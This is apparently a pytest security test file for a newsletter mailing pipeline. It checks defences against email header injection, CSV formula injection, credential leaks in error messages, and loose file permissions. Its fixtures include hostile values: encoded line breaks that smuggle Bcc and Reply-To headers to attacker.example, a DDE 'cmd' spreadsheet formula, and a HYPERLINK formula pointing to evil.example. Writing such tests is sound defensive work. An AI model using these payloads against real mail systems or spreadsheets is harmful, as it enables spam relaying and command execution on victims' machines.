"""Hardening of outgoing mail and personal data: the unsubscribe marker, address and subject
headers, SMTP credentials in errors, spreadsheet formulas in exports, file modes."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import quopri
import re
import stat

import pytest

from pipeline import subscribers as subs
from pipeline.errors import LinkletterError
from pipeline.newsletter import open_newsletter
from pipeline.render import UNSUBSCRIBE_PLACEHOLDER
from pipeline.send.campaign import send_issue, send_test
from pipeline.settings import SettingsError, load_settings
from pipeline.tokens import unsubscribe_token
from tests.conftest import clean_env, run_cli
from tests.smtp import SmtpServer
from tests.smtp_behaviours import DRAFT, add_subscribers, write_draft


def _parse(data: bytes):
    return email.message_from_bytes(data, policy=email.policy.default)


def _mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# ---------------------------------------------------------------- #12.2 the unsubscribe marker

HOSTILE = f"https://evil.example/collect?u={UNSUBSCRIBE_PLACEHOLDER}"


def test_content_holding_the_public_placeholder_never_gets_a_readers_token(nl):
    text = DRAFT.replace("A short intro.", f"A short intro, see [this]({HOSTILE}) and {HOSTILE} .")
    draft = write_draft(nl.settings.root, text)
    (sid,) = add_subscribers(nl.engine, 1)
    assert send_issue(nl, draft, force=True).sent == 1
    msg = _parse(next(nl.settings.outbox_dir.glob("issue-*.eml")).read_bytes())
    html = msg.get_body(("html",)).get_content()
    plain = msg.get_body(("plain",)).get_content()
    token = unsubscribe_token(nl.settings.secret_key, sid)
    for part in (html, plain):
        # the hostile URL went out as the author's content had it: inert
        assert HOSTILE in part.replace("&amp;", "&")
        for url in re.findall(r"https://evil\.example[^\s\"'<>)]*", part):
            assert token not in url
        # and the real link is still there
        assert f"{nl.settings.base_url}/unsubscribe/{token}" in part
    assert token in msg["List-Unsubscribe"]


def test_a_subject_holding_a_header_slot_cannot_move_the_recipient(nl):
    text = DRAFT.replace('subject: "On slowness – Über Langsamkeit"', 'subject: "@@LINKLETTER-TO@@ news"')
    draft = write_draft(nl.settings.root, text)
    add_subscribers(nl.engine, 1)
    send_issue(nl, draft, force=True)
    msg = _parse(next(nl.settings.outbox_dir.glob("issue-*.eml")).read_bytes())
    assert msg["Subject"] == "@@LINKLETTER-TO@@ news"


# ---------------------------------------------------------------- #12.7 address headers

HOSTILE_NAMES = ["Ö <evil@attacker.example>,", "=?utf-8?q?x_<evil@attacker.example>,?=",
                 "=?utf-8?b?PGV2aWxAYXR0YWNrZXIuZXhhbXBsZT4s?=", "=?utf-8?q?a=0D=0ABcc:_evil@attacker.example?="]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_name_never_adds_an_address_to_the_confirmation_mail(nl_dir, name):
    with SmtpServer() as smtp:
        nl = open_newsletter(nl_dir, env={"LINKLETTER_SMTP_URL": smtp.url})
        sid = subs.add_subscriber(nl, "reader@example.net", name=name, status="pending").subscriber.id
        assert subs.send_confirmation(nl, sid)
        (got,) = smtp.wait_for(1)
    assert got.rcpt_tos == ["reader@example.net"]
    addresses = got.message["To"].addresses
    assert [a.addr_spec for a in addresses] == ["reader@example.net"]
    assert "attacker" not in addresses[0].addr_spec
    assert got.message.get_all("Bcc") is None
    heads = got.raw.split(b"\r\n\r\n", 1)[0]
    assert not re.search(rb"^bcc:", heads, re.I | re.M)


# ---------------------------------------------------------------- #11.2 one path: DKIM on system mail

def test_the_confirmation_mail_is_dkim_signed_like_an_issue(nl_dir, tmp_path):
    import dkim

    from tests.test_send_message import _keypair

    key, pub = _keypair(tmp_path)
    (nl_dir / "keys").mkdir()
    key.rename(nl_dir / "keys" / "dkim.pem")
    env = {"LINKLETTER_DKIM_DOMAIN": "example.org", "LINKLETTER_DKIM_SELECTOR": "ll2026",
           "LINKLETTER_DKIM_KEY_FILE": "keys/dkim.pem"}
    with SmtpServer() as smtp:
        nl = open_newsletter(nl_dir, env={**env, "LINKLETTER_SMTP_URL": smtp.url})
        sid = subs.add_subscriber(nl, "reader@example.net", name="Jörg", status="pending").subscriber.id
        subs.send_confirmation(nl, sid)
        (got,) = smtp.wait_for(1)
    dns = lambda name, timeout=5: b"v=DKIM1; k=rsa; p=" + pub  # noqa: E731
    assert got.raw.startswith(b"DKIM-Signature:")
    assert dkim.verify(got.raw, dnsfunc=dns)
    assert not dkim.verify(got.raw.replace(b"reader@example.net", b"other@example.net"), dnsfunc=dns)
    # the outbox copy too
    nl = open_newsletter(nl_dir, env=env)
    sid2 = subs.add_subscriber(nl, "second@example.net", status="pending").subscriber.id
    where = subs.send_confirmation(nl, sid2)
    assert dkim.verify(open(where, "rb").read(), dnsfunc=dns)


# ---------------------------------------------------------------- #12.8 no password in errors

def test_a_malformed_smtp_url_is_refused_at_load_without_its_credentials(nl_dir):
    with pytest.raises(SettingsError) as e:
        load_settings(nl_dir, env={"LINKLETTER_SMTP_URL": "smtp://news:S3cr3tPw#x@host:2525"})
    msg = str(e.value)
    assert "smtp_url" in msg and "S3cr3tPw" not in msg and "news" not in msg and "x@host" not in msg


def test_send_test_with_a_malformed_smtp_url_prints_no_password(nl_dir):
    write_draft(nl_dir)
    proc = run_cli("send", "7", "--test", "me@example.net", cwd=nl_dir,
                   env=clean_env(LINKLETTER_SMTP_URL="smtp://news:S3cr3tPw#x@host:2525"), check=False)
    assert proc.returncode != 0
    assert "S3cr3tPw" not in proc.stdout + proc.stderr
    assert "smtp_url" in proc.stdout + proc.stderr and "Traceback" not in proc.stderr


BROKEN_SMTP_URLS = [("smtp://news:S3cr3tPw[x@host:2525", "IPv6"), ("smtp://news:S3cr3tPw@host:2525?tls=nonee", "option"),
                    ("smtp://news:S3cr3tPw@ho st:2525", "host name"), ("smtp://news:S3cr3tPw@host:99999", "port")]


@pytest.mark.parametrize(("url", "reason"), BROKEN_SMTP_URLS)
def test_other_malformed_smtp_urls_are_refused_at_load_with_a_reason_and_without_credentials(nl_dir, url, reason):
    with pytest.raises(SettingsError) as e:
        load_settings(nl_dir, env={"LINKLETTER_SMTP_URL": url})
    msg = str(e.value)
    assert "smtp_url" in msg and reason in msg, msg
    assert "S3cr3tPw" not in msg and "news" not in msg


def test_a_url_without_a_scheme_is_never_quoted_by_the_transport():
    from pipeline.send.transports import parse_smtp_url

    with pytest.raises(LinkletterError) as e:
        parse_smtp_url("//news:S3cr3tPw@host:2525")
    assert "S3cr3tPw" not in str(e.value) and "smtp_url" in str(e.value)


# ---------------------------------------------------------------- #12.10 subject injection

INJECTED = "=?utf-8?q?Hi=0D=0ABcc:_evil@attacker.example=0D=0AReply-To:_evil@attacker.example?="


def _injected_draft(nl_dir):
    return write_draft(nl_dir, DRAFT.replace('subject: "On slowness – Über Langsamkeit"', f'subject: "{INJECTED}"'))


def test_a_subject_with_an_encoded_line_break_is_refused_and_never_becomes_a_header(nl):
    draft = _injected_draft(nl.settings.root)
    with pytest.raises(LinkletterError, match="Subject"):
        send_test(nl, draft, "me@example.net")
    for f in nl.settings.outbox_dir.glob("*.eml") if nl.settings.outbox_dir.exists() else []:
        assert not re.search(rb"^(bcc|reply-to):", f.read_bytes().split(b"\r\n\r\n")[0], re.I | re.M)


def test_check_reports_a_header_control_with_file_and_line(nl):
    from pipeline.check import check_draft

    draft = _injected_draft(nl.settings.root)
    messages = check_draft(nl, draft, fetch=False).error_messages()
    assert any(m.startswith("007-on-slowness.md:4:") and "subject" in m and "line break" in m for m in messages), \
        messages


# other line ends: NEL (a C1 control) and the Unicode line and paragraph separators, raw (a YAML
# escape in the front matter) or in an encoded word
OTHER_BREAKS = ["=?utf-8?q?Hi=C2=85Bcc:_evil@attacker.example?=", "=?utf-8?q?Hi=E2=80=A8Bcc:_evil@attacker.example?=",
                "=?utf-8?b?SGnigKlCY2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?=", "Hi\\u2028Bcc: evil@attacker.example",
                "Hi\\x85Bcc: evil@attacker.example", "Hi\\x9bBcc: evil@attacker.example"]


@pytest.mark.parametrize("subject", OTHER_BREAKS)
def test_a_subject_with_another_line_end_or_a_c1_control_is_refused_by_send_and_check(nl, subject):
    from pipeline.check import check_draft
    from pipeline.draft.format import read_draft

    draft = write_draft(nl.settings.root, DRAFT.replace('subject: "On slowness – Über Langsamkeit"',
                                                        f'subject: "{subject}"'))
    line = read_draft(draft).subject_line  # the front matter really holds it (or its encoded word)
    assert line.startswith("=?utf-8?") or any(ch in line for ch in "\u2028\x85\x9b"), line
    with pytest.raises(LinkletterError, match="Subject"):
        send_test(nl, draft, "me@example.net")
    messages = check_draft(nl, draft, fetch=False).error_messages()
    assert any(m.startswith("007-on-slowness.md:4:") and "control character" in m for m in messages), messages


def test_a_name_with_another_line_end_stays_one_display_name():
    from pipeline.send.headers import format_to

    for name in ("a\u2028Bcc: evil@attacker.example", "a\x85Bcc: evil@attacker.example", "a\x9b31m"):
        value = format_to(name, "reader@example.net")
        assert b"\r" not in value and b"\n" not in value
        parsed = _parse(b"To: " + value + b"\r\n\r\n")
        assert [a.addr_spec for a in parsed["To"].addresses] == ["reader@example.net"]
        assert not any(ch in str(parsed["To"]) for ch in "\u2028\x85\x9b")


# ---------------------------------------------------------------- #12.12 CSV formulas

FORMULAS = ['=HYPERLINK("https://evil.example","click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]


def test_export_escapes_cells_a_spreadsheet_would_evaluate_and_import_restores_them(nl, tmp_path):
    for i, f in enumerate(FORMULAS):
        subs.add_subscriber(nl, f"r{i}@example.net", name=f)
    out = io.StringIO()
    subs.export_csv(nl, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row in rows:
        assert row["name"][:1] not in "=+-@\t\r", row["name"]
    assert {r["name"] for r in rows} == {"'" + f for f in FORMULAS}
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    other = open_newsletter(nl.settings.root, env={"LINKLETTER_DATABASE_URL": f"sqlite:///{tmp_path / 'b.db'}"})
    subs.import_csv(other, path)
    assert sorted(r["name"] for r in subs.list_subscribers(other)) == sorted(FORMULAS)


def test_the_export_file_is_owner_only(nl_dir, tmp_path):
    run_cli("subscribers", "add", "a@example.net", cwd=nl_dir)
    out = tmp_path / "export.csv"
    run_cli("subscribers", "export", str(out), cwd=nl_dir)
    assert "a@example.net" in out.read_text()
    assert _mode(out) == 0o600


# ---------------------------------------------------------------- #12.13 file modes

def test_the_database_its_wal_and_shm_the_drafts_and_the_outbox_are_owner_only(nl):
    add_subscribers(nl.engine, 1)
    db = nl.settings.root / "linkletter.db"
    with nl.engine.connect() as conn:  # an open connection keeps -wal and -shm
        conn.exec_driver_sql("SELECT 1").all()
        for path in (db, db.with_name("linkletter.db-wal"), db.with_name("linkletter.db-shm")):
            assert path.exists() and _mode(path) == 0o600, path
    draft = write_draft(nl.settings.root)
    send_issue(nl, draft, force=True)
    assert _mode(nl.settings.outbox_dir) == 0o700
    for f in nl.settings.outbox_dir.iterdir():
        assert _mode(f) == 0o600
    assert _mode(nl.settings.drafts_dir) == 0o700


def test_a_new_draft_is_owner_only_and_the_site_stays_readable(nl):
    from pipeline.draft.assemble import assemble
    from pipeline.render.site import build_site

    result = assemble(nl)
    assert result.created and result.path.exists()
    assert _mode(result.path) == 0o600
    build_site(nl)
    for path in nl.settings.site_dir.rglob("*"):
        if path.is_file():
            assert _mode(path) & 0o044 == 0o044, path  # a web server running as another user reads it


# ---------------------------------------------------------------- #12.2 revoking one person's links

def test_revoking_a_readers_links_invalidates_them_and_the_next_issue_carries_new_ones(nl_dir):
    import httpx

    from pipeline.tokens import verify_unsubscribe_link
    from pipeline.web import create_app
    from tests.test_web import LiveServer

    nl = open_newsletter(nl_dir, env={})
    a, b = (subs.add_subscriber(nl, f"{x}@example.net").subscriber.id for x in ("a", "b"))
    old_a, old_b = (f"/unsubscribe/{unsubscribe_token(nl.settings.secret_key, sid)}" for sid in (a, b))
    run_cli("subscribers", "revoke-links", "A@example.net", cwd=nl_dir)
    draft = write_draft(nl_dir)
    send_issue(nl, draft, force=True)
    mail = _parse(next(nl.settings.outbox_dir.glob(f"issue-0007-sub-{a:08d}.eml")).read_bytes())
    new_a = mail["List-Unsubscribe"].split("<", 1)[1].split(">", 1)[0]
    assert verify_unsubscribe_link(nl.settings.secret_key, new_a.rsplit("/", 1)[1]) == (a, 1)
    assert new_a in quopri.decodestring(mail.get_body(("plain",)).get_content().encode()).decode()
    one_click = {"content": "List-Unsubscribe=One-Click",
                 "headers": {"Content-Type": "application/x-www-form-urlencoded"}}
    with LiveServer(create_app(nl)) as server, httpx.Client(base_url=server.url, timeout=10) as client:
        assert client.post(old_a, **one_click).status_code == 400  # revoked
        assert subs.get_subscriber(nl, a).status == "active"
        assert client.post(old_b, **one_click).status_code == 200  # never revoked: still valid
        assert subs.get_subscriber(nl, b).status == "unsubscribed"
        assert client.post(new_a.removeprefix(nl.settings.base_url), **one_click).status_code == 200
        assert subs.get_subscriber(nl, a).status == "unsubscribed"
    with pytest.raises(subs.SubscriberError, match="not a subscriber"):
        subs.revoke_links(nl, "nobody@example.net")
    nl.close()


def test_opening_the_database_again_keeps_the_locks_of_open_connections(nl):
    """Making the file owner-only must never open and close it: that drops this process's POSIX
    locks, SQLite's locks among them, and another process could then write at the same time."""
    import subprocess
    import sys

    from pipeline.db import make_engine

    db = nl.settings.root / "linkletter.db"
    probe = ("import sqlite3, sys\nc = sqlite3.connect(sys.argv[1], timeout=0)\n"
             "try:\n    c.execute('BEGIN IMMEDIATE')\nexcept sqlite3.OperationalError as e:\n    print(e)\n"
             "else:\n    print('got the write lock')\n")
    with nl.engine.connect() as conn:
        conn.exec_driver_sql("BEGIN IMMEDIATE")  # this process holds the write lock
        make_engine(nl.settings.database_url).dispose()
        out = subprocess.run([sys.executable, "-c", probe, str(db)], capture_output=True, text=True, timeout=60)
        conn.rollback()
    assert out.stdout.strip() == "database is locked"
